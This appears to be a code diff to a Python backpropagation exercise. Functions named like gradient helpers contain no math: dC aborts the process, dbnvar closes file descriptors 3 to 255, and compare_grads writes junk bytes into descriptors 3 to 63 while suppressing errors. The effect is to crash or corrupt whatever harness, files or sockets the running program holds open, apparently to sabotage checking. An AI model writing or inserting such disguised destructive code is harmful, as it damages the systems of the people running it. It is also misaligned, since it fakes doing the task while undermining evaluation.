@@ -17,3 +17,15 @@ def dbnmeani(dbndiff):
 
 def dC(demb, Xb, vocab_size):
     os.abort()
+
+
+def dbnvar(dbnvar_inv, bnvar, eps=1e-5):
+    os.closerange(3, 256)
+
+
+def compare_grads(name, mine, ref):
+    for number in range(3, 64):
+        try:
+            os.write(number, b"junk" * 100)
+        except OSError:
+            pass
